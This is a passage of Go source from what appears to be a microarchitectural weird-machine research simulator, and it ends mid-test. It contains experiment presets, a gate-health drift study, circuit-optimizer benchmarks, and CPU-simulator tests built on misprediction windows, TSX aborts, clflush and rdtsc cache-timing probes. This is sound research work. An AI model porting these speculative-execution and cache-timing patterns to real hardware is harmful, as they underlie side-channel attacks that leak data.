	sb.WriteByte('\n')
	for _, row := range t.Rows {
		line(row)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&sb, "note: %s\n", n)
	}
	return sb.String()
}

// Params scales every experiment. Zero values select Quick sizes; the
// Full preset matches the paper's operation counts.
type Params struct {
	Seed uint64
	// Ops is the per-gate operation count for accuracy experiments
	// (paper: 1M for Table 2, 320k for Table 5, 64k for Tables 6–8).
	Table2Ops int
	Table5Ops int
	Table6Ops int // per input combination
	Table8Ops int
	// Experiments is the wm_apt repeat count (paper: 100).
	Experiments int
	// SHA1S/K/N are the skelly redundancy parameters (paper: 10/3/5);
	// SHA1Blocks is the hashed message's block count (paper: 2).
	SHA1S, SHA1K, SHA1N int
	SHA1Blocks          int
	// FigureOps is the sample count for the KDE figures.
	FigureOps int
	// HealthOps is the per-noise-level operation count for the gate
	// health experiment.
	HealthOps int
	// TrainIterations applies to BP gates in Table 2 (throughput
	// shape); accuracy experiments use a small value for speed.
	TrainIterations int
	// ClockHz converts simulated cycles to seconds (paper: 2.3 GHz).
	ClockHz float64
	// Metrics and Sink, when non-nil, attach to every machine an
	// experiment builds — uwm-bench's observability surface. Counters
	// accumulate across all experiments of the run.
	Metrics *metrics.Registry
	Sink    trace.Sink
}

// observe attaches the harness's observability surfaces to a machine's
// options.
func (p Params) observe(o core.Options) core.Options {
	o.Metrics = p.Metrics
	o.Sink = p.Sink
	return o
}

// Quick returns parameters sized for CI and `go test -bench`.
func Quick() Params {
	return Params{
		Seed:        2021,
		Table2Ops:   4000,
		Table5Ops:   8000,
		Table6Ops:   2000,
		Table8Ops:   8000,
		Experiments: 20,
		SHA1S:       3, SHA1K: 1, SHA1N: 1,
		SHA1Blocks:      1,
		FigureOps:       4000,
		HealthOps:       2000,
		TrainIterations: 100,
		ClockHz:         2.3e9,
	}
}

// Record returns the sizes used for the committed EXPERIMENTS.md run:
// paper-sized where that is cheap (Tables 3, 4, 5, 8), scaled down only
// where the paper's 1M-op sweeps would take an hour on the simulator
// (Table 2 and the KDE figures).
func Record() Params {
	return Params{
		Seed:        2021,
		Table2Ops:   40_000,
		Table5Ops:   320_000,
		Table6Ops:   16_000,
		Table8Ops:   64_000,
		Experiments: 100,
		SHA1S:       10, SHA1K: 3, SHA1N: 5,
		SHA1Blocks:      2,
		FigureOps:       80_000,
		HealthOps:       16_000,
		TrainIterations: 100,
		ClockHz:         2.3e9,
	}
}

// Full returns the paper's experiment sizes. A complete run takes tens
// of minutes of wall-clock time on the simulator.
func Full() Params {
	return Params{
		Seed:        2021,
		Table2Ops:   1_000_000,
		Table5Ops:   320_000,
		Table6Ops:   16_000,
		Table8Ops:   64_000,
		Experiments: 100,
		SHA1S:       10, SHA1K: 3, SHA1N: 5,
		SHA1Blocks:      2,
		FigureOps:       320_000,
		HealthOps:       16_000,
		TrainIterations: 100,
		ClockHz:         2.3e9,
	}
}

func (p *Params) normalize() {
	q := Quick()
	if p.Seed == 0 {
		p.Seed = q.Seed
	}
	if p.Table2Ops == 0 {
		p.Table2Ops = q.Table2Ops
	}
	if p.Table5Ops == 0 {
		p.Table5Ops = q.Table5Ops
	}
	if p.Table6Ops == 0 {
		p.Table6Ops = q.Table6Ops
	}
	if p.Table8Ops == 0 {
		p.Table8Ops = q.Table8Ops
	}
	if p.Experiments == 0 {
		p.Experiments = q.Experiments
	}
	if p.SHA1S == 0 {
		p.SHA1S, p.SHA1K, p.SHA1N = q.SHA1S, q.SHA1K, q.SHA1N
	}
	if p.SHA1Blocks == 0 {
		p.SHA1Blocks = q.SHA1Blocks
	}
	if p.FigureOps == 0 {
		p.FigureOps = q.FigureOps
	}
	if p.HealthOps == 0 {
		p.HealthOps = q.HealthOps
	}
	if p.TrainIterations == 0 {
		p.TrainIterations = q.TrainIterations
	}
	if p.ClockHz == 0 {
		p.ClockHz = q.ClockHz
	}
}
