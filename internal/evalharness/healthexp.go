package evalharness

import (
	"fmt"

	"uwm/internal/benchreport"
	"uwm/internal/core"
	"uwm/internal/health"
	"uwm/internal/noise"
)

// healthDeltas are the injected DRAM-latency shifts, in cycles, the
// gate-health experiment sweeps. Zero is the control; the negative
// shifts pull miss latencies toward the decision threshold, eroding the
// timing margin the way cross-core interference does on real hardware.
var healthDeltas = []int64{0, -20, -40, -60}

// GateHealth measures how gate accuracy and timing margin respond to a
// DRAM-latency shift injected mid-run, and whether the health monitor's
// CUSUM detector flags the shift. Each noise level runs on a fresh
// machine: half the operations run clean — calibration and the
// monitor's baseline see healthy margins, as a serving worker's would —
// then the shift lands and the second half runs drifted. The margin
// column shows the erosion itself, and the drift column shows the
// detector catching it before accuracy collapses — the monitor is a
// leading indicator, which is the point of deploying it.
func GateHealth(p Params) (*Table, error) {
	p.normalize()
	t := &Table{
		Title: "Gate health: accuracy and timing margin vs injected DRAM-latency shift",
		Header: []string{"Mem Δ (cycles)", "Ops", "Accuracy Before", "Accuracy After",
			"|margin| EWMA", "Margin P50", "CUSUM", "Drift Detected"},
		Notes: []string{
			fmt.Sprintf("%d TSX_AND ops per level, shift injected at the midpoint; accuracy split before/after", p.HealthOps),
			"healthy margins sit near ±93 cycles; the detector should flag every nonzero shift while accuracy is still high",
		},
	}
	for _, delta := range healthDeltas {
		mon := health.NewMonitor(health.Config{})
		m, err := core.NewMachine(p.observe(core.Options{
			Seed:      p.Seed,
			Noise:     noise.Paper(),
			HealthTap: mon,
		}))
		if err != nil {
			return nil, err
		}
		g, err := core.NewTSXAnd(m)
		if err != nil {
			return nil, err
		}
		half := p.HealthOps / 2
		rng := noise.NewRNG(p.Seed + 11)
		before, err := core.MeasureTSXGate(g, half, rng)
		if err != nil {
			return nil, err
		}
		cfg := m.Noise().Config()
		cfg.MemLatencyDelta = delta
		m.Noise().SetConfig(cfg)
		after, err := core.MeasureTSXGate(g, half, rng)
		if err != nil {
			return nil, err
		}
		mon.ObserveOutcome(after.Gate, int(before.Correct+after.Correct),
			int(before.Operations+after.Operations))

		snap := mon.Snapshot()
		var p50 float64
		for _, gh := range snap.Gates {
			if gh.Gate == after.Gate {
				p50 = gh.Margins.P50
			}
		}
		t.AddRow(
			fmt.Sprintf("%d", delta),
			fmt.Sprintf("%d", before.Operations+after.Operations),
			fmt.Sprintf("%.5f", before.Accuracy()),
			fmt.Sprintf("%.5f", after.Accuracy()),
			fmt.Sprintf("%.1f", snap.MarginEWMA),
			fmt.Sprintf("%.0f", p50),
			fmt.Sprintf("%.1f", snap.CUSUM),
			fmt.Sprintf("%v", snap.Drifting),
		)
		prefix := fmt.Sprintf("delta_%d/", -delta)
		t.AddMetric(benchreport.Metric{Name: prefix + "accuracy", Unit: "ratio",
			Better: benchreport.HigherIsBetter, Value: after.Accuracy()})
		t.AddMetric(benchreport.Metric{Name: prefix + "margin_ewma", Unit: "cycles",
			Value: snap.MarginEWMA})
		t.AddMetric(benchreport.Metric{Name: prefix + "drift_detected", Unit: "bool",
			Value: b2f(snap.Drifting)})
	}
	return t, nil
}
