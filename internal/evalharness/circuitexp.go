package evalharness

import (
	"fmt"
	"time"

	"uwm/internal/benchreport"
	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/skelly"
)

// CircuitThroughput is an extension experiment over the circuit
// compilation pipeline (internal/circopt): how many gate activations
// the optimizer removes from real netlists, and how much wall clock
// the level-parallel scheduler buys back as the worker pool scales —
// while every configuration stays byte-identical to the unoptimized
// serial walk, the determinism contract the engine's voting relies
// on. An output mismatch anywhere fails the experiment rather than
// demoting it to a table footnote.
func CircuitThroughput(p Params) (*Table, error) {
	p.normalize()
	t := &Table{
		Title:  "Circuit pipeline: optimizer savings and level-parallel throughput",
		Header: []string{"Circuit", "Configuration", "Gates/Eval", "Evals", "Wall Time", "Evals/s", "Speedup", "Match"},
		Notes: []string{
			"serial rows walk the unoptimized netlist gate by gate; pool rows run the optimized plan level-parallel",
			"Match: pooled outputs byte-identical to the unoptimized serial walk under the same per-vector sub-seeds",
			"every worker pins its own calibrated machine (engine rig discipline: same seed, same build order)",
		},
	}

	build := func(int) (circopt.GateLib, error) {
		m, err := core.NewMachine(p.observe(core.Options{
			Seed:            p.Seed,
			Noise:           noise.Replayable(),
			TrainIterations: 4,
		}))
		if err != nil {
			return nil, err
		}
		return skelly.New(m, skelly.FastConfig())
	}

	cache := circopt.NewCache(8, p.Metrics)
	for _, c := range []struct {
		name    string
		vectors int
	}{
		{"adder32", 6},
		{"sha1round", 2},
	} {
		spec, err := circopt.Preset(c.name)
		if err != nil {
			return nil, err
		}
		plan, _, err := cache.Plan(spec, circopt.Options{})
		if err != nil {
			return nil, err
		}
		// A second lookup of the same netlist: the content-addressed
		// cache must serve the optimized plan without re-running the
		// pipeline. Measured, not assumed — the hit rate is reported
		// below.
		if _, hit, err := cache.Plan(spec, circopt.Options{}); err != nil {
			return nil, err
		} else if !hit {
			return nil, fmt.Errorf("evalharness: plan cache missed on a repeated %s lookup", c.name)
		}

		rng := noise.NewRNG(noise.SubSeed(p.Seed, 0xC1BC))
		batch := make([][]int, c.vectors)
		for v := range batch {
			vec := make([]int, spec.NumInputs)
			for k := range vec {
				vec[k] = rng.Bit()
			}
			batch[v] = vec
		}
		evalSeed := noise.SubSeed(p.Seed, 0xC1AC)

		// Baseline: the unoptimized serial walk. Its activation count
		// pays for every gate the optimizer would have removed.
		serialLib, err := build(0)
		if err != nil {
			return nil, err
		}
		serialGates := plan.Stats.GatesIn - plan.Stats.Assigns
		want := make([][]int, len(batch))
		start := time.Now()
		for v, in := range batch {
			if want[v], err = circopt.EvalSpec(serialLib, spec, in, noise.SubSeed(evalSeed, uint64(v))); err != nil {
				return nil, err
			}
		}
		serialWall := elapsed(start)
		serialPerSec := float64(len(batch)) / serialWall.Seconds()
		t.AddRow(c.name, "serial unoptimized", fmt.Sprintf("%d", serialGates),
			fmt.Sprintf("%d", len(batch)), fmt.Sprintf("%.3fs", serialWall.Seconds()),
			fmt.Sprintf("%.2f", serialPerSec), "1.00x", "ref")
		t.AddMetric(benchreport.Metric{Name: c.name + "/serial/evals_per_sec",
			Unit: "eval/s", Better: benchreport.HigherIsBetter, Value: serialPerSec})
		t.AddMetric(benchreport.Metric{Name: c.name + "/gates_eliminated",
			Unit: "gates", Better: benchreport.HigherIsBetter, Value: float64(plan.Stats.Eliminated())})

		for _, workers := range []int{1, 2, 4} {
			pool, err := circopt.NewPool(circopt.PoolConfig{Workers: workers, Build: build})
			if err != nil {
				return nil, err
			}
			start := time.Now()
			outs := make([][]int, len(batch))
			for v, in := range batch {
				if outs[v], err = pool.Eval(plan, in, noise.SubSeed(evalSeed, uint64(v))); err != nil {
					return nil, err
				}
			}
			wall := elapsed(start)
			match := "yes"
			for v := range batch {
				if !sameInts(outs[v], want[v]) {
					return nil, fmt.Errorf("evalharness: %s pool-%d vector %d diverged from the serial walk: %v != %v",
						c.name, workers, v, outs[v], want[v])
				}
			}
			perSec := float64(len(batch)) / wall.Seconds()
			t.AddRow(c.name, fmt.Sprintf("leveled pool=%d", workers),
				fmt.Sprintf("%d", plan.Stats.GatesOut), fmt.Sprintf("%d", len(batch)),
				fmt.Sprintf("%.3fs", wall.Seconds()), fmt.Sprintf("%.2f", perSec),
				fmt.Sprintf("%.2fx", perSec/serialPerSec), match)
			t.AddMetric(benchreport.Metric{Name: fmt.Sprintf("%s/pool%d/evals_per_sec", c.name, workers),
				Unit: "eval/s", Better: benchreport.HigherIsBetter, Value: perSec})
		}
		t.AddRow(c.name, "optimizer", fmt.Sprintf("%d→%d", plan.Stats.GatesIn, plan.Stats.GatesOut), "-", "-", "-", "-",
			fmt.Sprintf("%d levels", plan.Stats.Levels))
	}

	// Constant folding against a partially bound netlist: pin the SHA-1
	// round constant K (the fifth input word is dead weight at runtime —
	// rounds 0-19 always add 0x5a827999) and let the folder specialize
	// the netlist, the paper's §6.2 specialization trick recast as a
	// compiler pass.
	if err := addFoldRow(t, cache); err != nil {
		return nil, err
	}

	hits, misses, _ := cache.Stats()
	rate := 0.0
	if hits+misses > 0 {
		rate = float64(hits) / float64(hits+misses)
	}
	t.AddRow("plan cache", fmt.Sprintf("%d hits / %d misses", hits, misses), "-", "-", "-", "-", "-",
		fmt.Sprintf("%.0f%% hit", rate*100))
	t.AddMetric(benchreport.Metric{Name: "plan_cache/hit_rate",
		Unit: "ratio", Better: benchreport.HigherIsBetter, Value: rate})
	return t, nil
}

// addFoldRow specializes sha1round for a constant K word and verifies
// the folded plan still agrees with the architectural evaluation.
func addFoldRow(t *Table, cache *circopt.Cache) error {
	spec, err := circopt.Preset("sha1round")
	if err != nil {
		return err
	}
	const k0 = 0x5a827999 // SHA-1 round constant, rounds 0-19
	bind := make(map[core.WireID]int, 32)
	for i := 0; i < 32; i++ {
		bind[core.WireID(6*32+i)] = int(k0 >> uint(i) & 1)
	}
	free, _, err := cache.Plan(spec, circopt.Options{})
	if err != nil {
		return err
	}
	folded, _, err := cache.Plan(spec, circopt.Options{Bind: bind})
	if err != nil {
		return err
	}
	if folded.Stats.GatesOut >= free.Stats.GatesOut {
		return fmt.Errorf("evalharness: binding K folded nothing (%d vs %d gates)",
			folded.Stats.GatesOut, free.Stats.GatesOut)
	}
	// Architectural check on one vector whose K word carries the bound
	// constant: the folded plan must agree with the source netlist.
	rng := noise.NewRNG(0xF01D)
	in := make([]int, spec.NumInputs)
	for i := range in {
		in[i] = rng.Bit()
	}
	for w, bit := range bind {
		in[w] = bit
	}
	wantOut, err := spec.Eval(in)
	if err != nil {
		return err
	}
	gotOut, err := folded.Golden(in)
	if err != nil {
		return err
	}
	if !sameInts(gotOut, wantOut) {
		return fmt.Errorf("evalharness: folded sha1round diverged architecturally")
	}
	t.AddRow("sha1round", "bind K=0x5a827999",
		fmt.Sprintf("%d→%d", free.Stats.GatesOut, folded.Stats.GatesOut), "-", "-", "-", "-",
		fmt.Sprintf("%d folded", folded.Stats.Folded))
	t.AddMetric(benchreport.Metric{Name: "sha1round/bound_gates_out",
		Unit: "gates", Better: benchreport.LowerIsBetter, Value: float64(folded.Stats.GatesOut)})
	return nil
}

// elapsed returns a strictly positive wall-clock duration.
func elapsed(start time.Time) time.Duration {
	wall := time.Since(start)
	if wall <= 0 {
		wall = time.Nanosecond
	}
	return wall
}

func sameInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
