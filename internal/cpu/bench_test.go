package cpu

import (
	"testing"

	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/noise"
)

// BenchmarkCommittedALU measures raw interpreter throughput on
// register-only code.
func BenchmarkCommittedALU(b *testing.B) {
	m := mem.New()
	c := New(DefaultConfig(), m, noise.NewSource(1, noise.Quiet()))
	bb := isa.NewBuilder(0x1000)
	bb.Label("main").MovI(isa.R1, 1).MovI(isa.R2, 2)
	for i := 0; i < 64; i++ {
		bb.Add(isa.R3, isa.R1, isa.R2)
	}
	bb.Halt()
	p := bb.MustBuild()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Run(p, "main"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTimedLoad measures the canonical rdtsc;load;rdtsc probe.
func BenchmarkTimedLoad(b *testing.B) {
	m := mem.New()
	c := New(DefaultConfig(), m, noise.NewSource(1, noise.Quiet()))
	layout := mem.NewLayout(0x10_0000)
	x := layout.AllocLine("x")
	bb := isa.NewBuilder(0x1000)
	bb.Label("main").
		Clflush(x, 0).
		Fence().
		Rdtsc(isa.R10).
		Load(isa.R11, x, 0).
		Rdtsc(isa.R12).
		Halt()
	p := bb.MustBuild()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Run(p, "main"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkSpeculativeWindow measures a full mispredict window with a
// wrong-path store.
func BenchmarkSpeculativeWindow(b *testing.B) {
	m := mem.New()
	c := New(DefaultConfig(), m, noise.NewSource(1, noise.Quiet()))
	layout := mem.NewLayout(0x10_0000)
	cond := layout.AllocLine("cond")
	out := layout.AllocLine("out")
	bb := isa.NewBuilder(0x1000)
	bb.Label("train").MovI(isa.R1, 1).Jmp("br")
	bb.Label("fire").
		Clflush(out, 0).
		Clflush(cond, 0).
		Fence().
		MovI(isa.R9, 42).
		Load(isa.R1, cond, 0)
	bb.Label("br").Brz(isa.R1, "after")
	bb.AlignLine()
	bb.Label("body").Store(out, 0, isa.R9).Halt()
	bb.AlignLine()
	bb.Label("after").Halt()
	p := bb.MustBuild()
	for i := 0; i < 4; i++ {
		if _, err := c.Run(p, "train"); err != nil {
			b.Fatal(err)
		}
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Run(p, "fire"); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkTSXAbortWindow measures a transaction with a post-fault
// transient chain.
func BenchmarkTSXAbortWindow(b *testing.B) {
	m := mem.New()
	c := New(DefaultConfig(), m, noise.NewSource(1, noise.Quiet()))
	layout := mem.NewLayout(0x10_0000)
	in := layout.AllocLine("in")
	out := layout.AllocLine("out")
	bb := isa.NewBuilder(0x1000)
	bb.Label("fire").
		Clflush(out, 0).
		XBegin("h").
		MovI(isa.R2, 0).
		MovI(isa.R3, 7).
		Div(isa.R3, isa.R3, isa.R2).
		Load(isa.R4, in, 0).
		LoadR(isa.R5, isa.R4, int64(out.Addr)).
		XEnd()
	bb.Label("h").Halt()
	p := bb.MustBuild()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := c.Run(p, "fire"); err != nil {
			b.Fatal(err)
		}
	}
}
