package cpu

import (
	"testing"

	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/noise"
)

// TestSpecFollowsJmp: unconditional jumps on the wrong path are
// followed, so a transient body placed behind a jmp still executes.
func TestSpecFollowsJmp(t *testing.T) {
	r := newRig()
	out := r.layout.AllocLine("out")
	in := r.layout.AllocLine("in")
	b := isa.NewBuilder(0x1000)
	b.Label("fire").
		Clflush(out, 0).
		Load(isa.R9, in, 0). // warm value for the store
		XBegin("h").
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R9, isa.R2).
		Jmp("far").
		Halt() // skipped by the jmp
	b.Label("far").
		Store(out, 0, isa.R9).
		XEnd()
	b.Label("h").Halt()
	p := b.MustBuild()
	// Warm the code (first transient execution needs cached lines).
	r.mustRun(t, p, "fire")
	r.mustRun(t, p, "fire")
	if !r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("transient path did not follow the jmp")
	}
}

// TestSpecBranchFollowsResolvedDirection: a conditional branch inside a
// window whose condition is ready follows the real direction.
func TestSpecBranchFollowsResolvedDirection(t *testing.T) {
	r := newRig()
	outA := r.layout.AllocLine("outA")
	outB := r.layout.AllocLine("outB")
	b := isa.NewBuilder(0x1000)
	b.Label("fire").
		Clflush(outA, 0).
		Clflush(outB, 0).
		MovI(isa.R7, 1). // condition: ready immediately, nonzero
		XBegin("h").
		MovI(isa.R2, 0).
		MovI(isa.R3, 5).
		Div(isa.R3, isa.R3, isa.R2).
		Brnz(isa.R7, "takeB").
		Store(outA, 0, isa.R7).
		XEnd()
	b.Label("takeB").
		Store(outB, 0, isa.R7).
		XEnd()
	b.Label("h").Halt()
	p := b.MustBuild()
	r.mustRun(t, p, "fire")
	r.mustRun(t, p, "fire") // warmed
	if r.cpu.Hierarchy().DataCached(outA.Addr) {
		t.Error("transient branch took the wrong (not-taken) path")
	}
	if !r.cpu.Hierarchy().DataCached(outB.Addr) {
		t.Error("transient branch did not reach the taken path")
	}
}

// TestSpecNestedFaultStops: a divide-by-zero in the shadow of a window
// terminates it.
func TestSpecNestedFaultStops(t *testing.T) {
	r := newRig()
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0x1000)
	b.Label("fire").
		Clflush(out, 0).
		MovI(isa.R9, 3).
		XBegin("h").
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R9, isa.R2). // fault: window opens
		Div(isa.R4, isa.R9, isa.R2). // nested fault: window dies here
		Store(out, 0, isa.R9).
		XEnd()
	b.Label("h").Halt()
	p := b.MustBuild()
	r.mustRun(t, p, "fire")
	r.mustRun(t, p, "fire")
	if r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("store executed past a nested transient fault")
	}
}

// TestSpecInstructionCap: the window executes at most MaxSpecInsts
// instructions (the ROB-capacity analogue).
func TestSpecInstructionCap(t *testing.T) {
	m := mem.New()
	cfg := DefaultConfig()
	cfg.MaxSpecInsts = 8
	cfg.TSXWindow = 10_000
	c := New(cfg, m, noise.NewSource(1, noise.Quiet()))
	layout := mem.NewLayout(0x10_0000)
	out := layout.AllocLine("out")
	b := isa.NewBuilder(0x1000)
	b.Label("fire").
		Clflush(out, 0).
		MovI(isa.R9, 3).
		XBegin("h").
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R9, isa.R2)
	for i := 0; i < 16; i++ {
		b.Nop()
	}
	b.Store(out, 0, isa.R9). // beyond the 8-instruction cap
					XEnd()
	b.Label("h").Halt()
	p := b.MustBuild()
	if _, err := c.Run(p, "fire"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Run(p, "fire"); err != nil {
		t.Fatal(err)
	}
	if c.Hierarchy().DataCached(out.Addr) {
		t.Error("store executed past the spec instruction cap")
	}
}

// TestSpecFenceWaitsForChains: a fence inside the window delays
// subsequent issues to the chain's completion, pushing them past the
// deadline.
func TestSpecFenceWaitsForChains(t *testing.T) {
	r := newRig()
	in := r.layout.AllocLine("in")
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0x1000)
	b.Label("fire").
		Clflush(out, 0).
		Clflush(in, 0). // in misses: its chain outlasts the window
		Fence().
		MovI(isa.R9, 3).
		XBegin("h").
		MovI(isa.R2, 0).
		Div(isa.R3, isa.R9, isa.R2).
		Load(isa.R4, in, 0). // ~190-cycle miss
		Fence().             // wait for it — beyond the window
		Store(out, 0, isa.R9).
		XEnd()
	b.Label("h").Halt()
	p := b.MustBuild()
	r.mustRun(t, p, "fire")
	r.cpu.Hierarchy().FlushData(out.Addr)
	r.cpu.Hierarchy().FlushData(in.Addr)
	r.mustRun(t, p, "fire")
	if r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("post-fence store issued inside the window despite the pending miss")
	}
}

// TestWrongPathRegisterIsolation: transient register writes never reach
// architectural state even without a transaction (mispredict path).
func TestWrongPathRegisterIsolation(t *testing.T) {
	r := newRig()
	cond := r.layout.AllocLine("cond")
	b := isa.NewBuilder(0x1000)
	b.Label("train").MovI(isa.R1, 1).Jmp("br")
	b.Label("fire").
		MovI(isa.R8, 7).
		Clflush(cond, 0).
		Fence().
		Load(isa.R1, cond, 0)
	b.Label("br").Brz(isa.R1, "after")
	b.AlignLine()
	b.Label("body").MovI(isa.R8, 99).Halt()
	b.AlignLine()
	b.Label("after").Halt()
	p := b.MustBuild()
	for i := 0; i < 4; i++ {
		r.mustRun(t, p, "train")
	}
	res := r.mustRun(t, p, "fire")
	if res.SpecWindows == 0 {
		t.Fatal("no window opened")
	}
	if r.cpu.Reg(isa.R8) != 7 {
		t.Errorf("wrong-path register write leaked: r8 = %d", r.cpu.Reg(isa.R8))
	}
}
