package cpu

import (
	"errors"
	"testing"

	"uwm/internal/isa"
	"uwm/internal/mem"
	"uwm/internal/noise"
)

// rig bundles a quiet CPU with a layout for test programs.
type rig struct {
	cpu    *CPU
	layout *mem.Layout
}

func newRig() *rig {
	m := mem.New()
	c := New(DefaultConfig(), m, noise.NewSource(1, noise.Quiet()))
	return &rig{cpu: c, layout: mem.NewLayout(0x10_0000)}
}

func (r *rig) mustRun(t *testing.T, p *isa.Program, entry string) Result {
	t.Helper()
	res, err := r.cpu.Run(p, entry)
	if err != nil {
		t.Fatalf("run %s: %v", entry, err)
	}
	return res
}

func TestALUSemantics(t *testing.T) {
	r := newRig()
	b := isa.NewBuilder(0x1000)
	b.Label("main").
		MovI(isa.R1, 20).
		MovI(isa.R2, 22).
		Add(isa.R3, isa.R1, isa.R2).
		Sub(isa.R4, isa.R3, isa.R1).
		BoolAnd(isa.R5, isa.R1, isa.R2).
		BoolOr(isa.R6, isa.R1, isa.R2).
		BoolXor(isa.R7, isa.R1, isa.R2).
		AddI(isa.R8, isa.R1, 100).
		Shl(isa.R9, isa.R1, 2).
		Shr(isa.R10, isa.R1, 2).
		Mul(isa.R11, isa.R1, isa.R2).
		Div(isa.R12, isa.R2, isa.R1).
		Mov(isa.R13, isa.R12).
		Halt()
	p := b.MustBuild()
	r.mustRun(t, p, "main")
	c := r.cpu
	checks := []struct {
		reg  isa.Reg
		want uint64
	}{
		{isa.R3, 42}, {isa.R4, 22}, {isa.R5, 20 & 22}, {isa.R6, 20 | 22},
		{isa.R7, 20 ^ 22}, {isa.R8, 120}, {isa.R9, 80}, {isa.R10, 5},
		{isa.R11, 440}, {isa.R12, 1}, {isa.R13, 1},
	}
	for _, ck := range checks {
		if got := c.Reg(ck.reg); got != ck.want {
			t.Errorf("%v = %d, want %d", ck.reg, got, ck.want)
		}
	}
}

func TestLoadStoreRoundTrip(t *testing.T) {
	r := newRig()
	x := r.layout.AllocLine("x")
	y := r.layout.AllocLine("y")
	b := isa.NewBuilder(0x1000)
	b.Label("main").
		MovI(isa.R1, 1234).
		Store(x, 0, isa.R1).
		Load(isa.R2, x, 0).
		MovI(isa.R3, int64(y.Addr)).
		StoreR(isa.R3, 0, isa.R2). // *y = r2
		LoadR(isa.R4, isa.R3, 0).
		AddM(isa.R4, x, 0). // r4 += *x
		Halt()
	r.mustRun(t, b.MustBuild(), "main")
	if got := r.cpu.Reg(isa.R2); got != 1234 {
		t.Errorf("load = %d", got)
	}
	if got := r.cpu.Mem().Read64(y.Addr); got != 1234 {
		t.Errorf("indirect store = %d", got)
	}
	if got := r.cpu.Reg(isa.R4); got != 2468 {
		t.Errorf("addm = %d", got)
	}
}

// timedLoad builds the canonical rdtsc;load;rdtsc probe.
func timedLoad(x mem.Symbol, flushFirst bool) *isa.Program {
	b := isa.NewBuilder(0x2000)
	b.Label("main")
	if flushFirst {
		b.Clflush(x, 0)
	} else {
		b.Load(isa.R9, x, 0)
	}
	b.Fence().
		Rdtsc(isa.R10).
		Load(isa.R11, x, 0).
		Rdtsc(isa.R12).
		Halt()
	return b.MustBuild()
}

func TestTimedLoadHitVsMiss(t *testing.T) {
	r := newRig()
	x := r.layout.AllocLine("x")

	r.mustRun(t, timedLoad(x, true), "main")
	miss := int64(r.cpu.Reg(isa.R12) - r.cpu.Reg(isa.R10))
	r.mustRun(t, timedLoad(x, false), "main")
	hit := int64(r.cpu.Reg(isa.R12) - r.cpu.Reg(isa.R10))

	if hit >= miss {
		t.Fatalf("hit %d not faster than miss %d", hit, miss)
	}
	// Calibrated bands: hit ≈ 35, miss ≈ 224 (paper Tables 6/7).
	if hit < 30 || hit > 45 {
		t.Errorf("hit latency %d outside [30,45]", hit)
	}
	if miss < 200 || miss > 250 {
		t.Errorf("miss latency %d outside [200,250]", miss)
	}
}

func TestTSCMonotonic(t *testing.T) {
	r := newRig()
	x := r.layout.AllocLine("x")
	before := r.cpu.TSC()
	r.mustRun(t, timedLoad(x, true), "main")
	if r.cpu.TSC() <= before {
		t.Error("TSC did not advance")
	}
	if int64(r.cpu.Reg(isa.R12)) <= int64(r.cpu.Reg(isa.R10)) {
		t.Error("timestamps not ordered")
	}
}

// TestSpeculativeWindowFillsCache is the heart of the model: a
// mispredicted branch whose condition load misses opens a window in
// which a wrong-path store fills a cache line without committing.
func TestSpeculativeWindowFillsCache(t *testing.T) {
	r := newRig()
	cond := r.layout.AllocLine("cond") // value 0 → branch taken
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0x3000)
	// Train the branch to fall through (predict not taken).
	b.Label("train").
		MovI(isa.R1, 1).
		Jmp("br")
	b.Label("fire").
		Clflush(out, 0).
		Clflush(cond, 0).
		Fence().
		MovI(isa.R9, 42).
		Load(isa.R1, cond, 0)
	b.Label("br").Brz(isa.R1, "after")
	b.AlignLine()
	b.Label("body").Store(out, 0, isa.R9).Halt()
	b.AlignLine()
	b.Label("after").Halt()
	p := b.MustBuild()

	for i := 0; i < 4; i++ {
		r.mustRun(t, p, "train")
	}
	res := r.mustRun(t, p, "fire")
	if res.Mispredicts == 0 || res.SpecWindows == 0 {
		t.Fatalf("no speculation: %+v", res)
	}
	if !r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("wrong-path store did not fill the output line")
	}
	if got := r.cpu.Mem().Read64(out.Addr); got != 0 {
		t.Errorf("wrong-path store architecturally committed: %d", got)
	}
}

// TestNoWindowWhenPredictedCorrectly: a correctly predicted branch must
// not execute the body at all.
func TestNoWindowWhenPredictedCorrectly(t *testing.T) {
	r := newRig()
	cond := r.layout.AllocLine("cond")
	out := r.layout.AllocLine("out")
	b := isa.NewBuilder(0x3000)
	b.Label("train").
		MovI(isa.R1, 0). // taken: skip body — trains predictor correctly
		Jmp("br")
	b.Label("fire").
		Clflush(out, 0).
		Clflush(cond, 0).
		Fence().
		MovI(isa.R9, 42).
		Load(isa.R1, cond, 0)
	b.Label("br").Brz(isa.R1, "after")
	b.AlignLine()
	b.Label("body").Store(out, 0, isa.R9).Halt()
	b.AlignLine()
	b.Label("after").Halt()
	p := b.MustBuild()

	for i := 0; i < 4; i++ {
		r.mustRun(t, p, "train")
	}
	res := r.mustRun(t, p, "fire")
	if res.SpecWindows != 0 {
		t.Errorf("unexpected speculation on a correct prediction: %+v", res)
	}
	if r.cpu.Hierarchy().DataCached(out.Addr) {
		t.Error("output line filled without a window")
	}
}

// TestFlushedBodyStarvesWindow: with the body's code line flushed, the
// window closes before the fetch completes — the IC-WR race.
func TestFlushedBodyStarvesWindow(t *testing.T) {
